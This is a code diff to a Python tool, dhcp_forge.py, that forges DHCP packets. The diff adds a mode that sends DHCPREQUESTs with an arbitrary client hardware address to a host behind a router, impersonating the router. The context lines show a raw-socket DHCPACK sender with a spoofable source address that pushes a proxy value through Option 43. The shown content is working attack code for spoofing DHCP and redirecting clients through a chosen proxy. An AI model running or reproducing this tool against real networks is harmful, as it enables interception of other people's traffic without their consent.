@@ -5,6 +5,10 @@
       one DHCPREQUEST per xid (hex), as a client in SELECTING sends it:
       broadcast from 0.0.0.0 on IFACE's packet socket, chaddr = IFACE's
       address, option 54 = SERVER.
+  dhcp_forge.py relayed DST CHADDR SERVER XID...
+      the same DHCPREQUEST with the given chaddr, sent on a UDP socket from
+      port 68 to DST:67 (a LAN host behind a router, speaking as the
+      router's WAN interface).
   dhcp_forge.py ack SRC DST CHADDR SERVER YIADDR XID:PROXY...
       one DHCPACK per XID:PROXY (sub-option 128 of Option 43), lease 60 s,
       sent from SRC:67 to DST:68 on a raw socket (so SRC may be any
@@ -51,6 +55,16 @@ def request(iface, server, xids):
         s.sendto(pkt, (iface, 0x0800, 0, 0, b"\xff" * 6))
 
 
+def relayed(dst, chaddr, server, xids):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind(("0.0.0.0", 68))
+    for x in xids:
+        s.sendto(bootp(1, int(x, 16), bytes.fromhex(chaddr.replace(":", "")),
+                       "0.0.0.0",
+                       opt(53, b"\x03") + opt(54, socket.inet_aton(server))),
+                 (dst, 67))
+
+
 def ack(src, dst, chaddr, server, yiaddr, pairs):
     s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
@@ -67,6 +81,8 @@ def ack(src, dst, chaddr, server, yiaddr, pairs):
 if __name__ == "__main__":
     if len(sys.argv) >= 5 and sys.argv[1] == "request":
         request(sys.argv[2], sys.argv[3], sys.argv[4:])
+    elif len(sys.argv) >= 6 and sys.argv[1] == "relayed":
+        relayed(sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5:])
     elif len(sys.argv) >= 8 and sys.argv[1] == "ack":
         ack(*sys.argv[2:7], sys.argv[7:])
     else:
